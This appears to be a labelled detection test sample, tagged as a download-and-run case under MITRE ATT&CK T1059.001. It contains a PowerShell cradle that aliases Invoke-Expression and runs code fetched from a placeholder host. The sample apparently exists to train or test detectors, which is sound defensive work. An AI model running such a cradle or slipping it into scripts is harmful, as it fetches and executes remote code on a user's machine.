# expect: download-and-run | source: MITRE ATT&CK T1059.001
Set-Alias -Name run -Value Invoke-Expression
run (Invoke-WebRequest -UseBasicParsing 'http://files.example.invalid/stage').Content
